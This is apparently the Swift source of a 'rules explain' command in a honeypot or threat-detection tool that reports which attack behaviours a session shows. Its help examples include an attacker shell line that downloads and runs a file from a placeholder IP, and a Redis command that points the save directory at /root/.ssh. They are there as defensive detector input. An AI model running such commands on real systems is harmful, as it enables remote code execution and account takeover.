import ArgumentParser
import Detection
import ThreatAPI
import ThreatModel

/// `sikker rules explain`
struct RulesExplainCommand: AsyncParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "explain",
        abstract: "Says which primitives and behaviours a session shows, event by event, and why.",
        discussion: """
            A session is a protocol and what a visitor says on it: each text is a command of a shell, a
            path asked of a web server (a method may stand before it), a query to a database. Or it is
            a file of events as sensors send them, one JSON object a line; each session in it is
            explained by itself, without what only several of them show together.

            EXAMPLES
              sikker rules explain ssh 'cd /tmp; wget http://192.0.2.7/x; sh x'
              sikker rules explain redis 'CONFIG SET dir /root/.ssh' SAVE --rules mine.yaml
              sikker rules explain --events visit.ndjson --json
              sikker rules explain --events - < visit.ndjson
            """)

    @Argument(help: "The protocol, then what is said, each text one event.")
    var session: [String] = []

    @Option(
        help: ArgumentHelp("A file of events; - is standard input.", valueName: "file"), completion: .file())
    var events: String?

    @Option(
        help: ArgumentHelp(
            "A file of rules, or a folder with some; may be repeated (default: the server's folder).",
            valueName: "file"), completion: .file())
    var rules: [String] = []

    @Flag(help: "Print JSON.")
    var json = false

    @OptionGroup var settings: SettingsFileOption

    func validate() throws {
        guard (events == nil) == session.isEmpty else { return }
        throw ValidationError("a protocol and texts are needed, or --events with a file, not both")
    }

    mutating func run() async throws {
        let catalogue = try RuleOptions.catalogue(of: rules, settings)
        let sessions = try events.map { try EventFile.sessions(at: $0) } ?? [try said()]
        let explanations = sessions.map { SessionExplanation(of: $0, in: catalogue) }
        if json {
            return try JSONOutput.write(explanations.map { ExplainedSession($0, in: catalogue) })
        }
        let text = SessionText(catalogue: catalogue, isColoured: Terminal.standardOutput.hasColour)
        Terminal.standardOutput.write(explanations.map { text.lines($0).joined() }.joined(separator: "\n"))
    }

    private func said() throws(CommandFailure) -> [SessionEvent] {
        guard let name = session.first, let attackProtocol = AttackProtocol(name: name) else {
            throw CommandFailure(.usage, "the first word must be one of \(AttackProtocol.acceptedNames)")
        }
        guard session.count > 1 else {
            throw CommandFailure(.usage, "after the protocol, what is said is needed: \(name) 'text' …")
        }
        return BehaviourExample(saying: Array(session.dropFirst()), on: attackProtocol).sessionEvents()
    }
}
